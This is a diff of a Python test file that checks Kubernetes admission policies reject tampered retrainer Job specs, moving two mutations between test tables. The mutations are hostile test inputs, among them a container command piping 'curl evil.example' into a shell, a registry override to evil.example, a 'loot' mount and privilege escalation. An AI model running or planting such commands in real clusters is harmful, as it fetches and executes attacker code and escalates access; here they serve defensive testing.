@@ -65,6 +65,7 @@ def _container(job: dict[str, Any]) -> dict[str, Any]:
 
 
 CHANGES: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
+    # what only the whole-pod comparison catches (a change the other policy refuses too may be reported by either)
     "env": (lambda job: _container(job)["env"].append(
         {"name": "MITIGA_HELM_EXTRA_ARGS", "value": "--set image.registry=evil.example"}), LETTER),
     "env_from_secret": (lambda job: _container(job)["envFrom"].append(
@@ -74,8 +75,6 @@ CHANGES: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
         _container(job)["volumeMounts"].append({"name": "loot", "mountPath": "/loot"})), LETTER),
     "mount_moved": (lambda job: _container(job)["volumeMounts"].__setitem__(
         0, {"name": "tmp", "mountPath": "/var/lib/mitiga/models"}), LETTER),
-    "command": (lambda job: _container(job).__setitem__("command", ["sh", "-c", "curl evil.example | sh"]),
-                "mitiga_retrainer"),
     "other_arguments": (lambda job: _container(job).__setitem__(
         "args", ["mitiga_retrainer", "--model", "lstm", "--data-start", "2030-01-01"]), LETTER),
     "run_as_root": (lambda job: job["spec"]["template"]["spec"]["securityContext"].update(
@@ -90,7 +89,6 @@ CHANGES: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
         "app.kubernetes.io/component", "detector"), "labels its pod as the chart does"),
     "annotation": (lambda job: job["spec"]["template"]["metadata"]["annotations"].__setitem__(
         "container.apparmor.security.beta.kubernetes.io/retrainer", "unconfined"), "retrain request only"),
-    "many_pods": (lambda job: job["spec"].update({"parallelism": 50, "completions": 50}), "one pod"),
 }
 
 
@@ -103,6 +101,8 @@ STRICT_CHANGES: dict[str, Callable[[dict[str, Any]], None]] = {
     "privileged": lambda job: _container(job)["securityContext"].update({"allowPrivilegeEscalation": True}),
     "init_container": lambda job: job["spec"]["template"]["spec"].__setitem__(
         "initContainers", [{"name": "x", "image": "docker.io/library/busybox:latest"}]),
+    "command": lambda job: _container(job).__setitem__("command", ["sh", "-c", "curl evil.example | sh"]),
+    "many_pods": lambda job: job["spec"].update({"parallelism": 50, "completions": 50}),
 }
 STRICT = {"image": "runs the retrainer image", "service_account": "runs as the retrainer's ServiceAccount",
           "module": "runs mitiga_retrainer", "command": "runs mitiga_retrainer", "host_path": "has no host access",
@@ -156,8 +156,7 @@ def test_without_its_pod_template_the_namespace_still_creates_jobs_and_the_detec
         for change, says in STRICT.items():
             evil = copy.deepcopy(launched)
             evil["metadata"]["name"] = f"evil-strict-{change.replace('_', '-')}"
-            alter = STRICT_CHANGES.get(change) or CHANGES[change][0]
-            alter(evil)
+            STRICT_CHANGES[change](evil)
             with pytest.raises(ApiException) as refused:
                 create(detector_api, evil)
             assert says in refused.value.body, (change, refused.value.body)
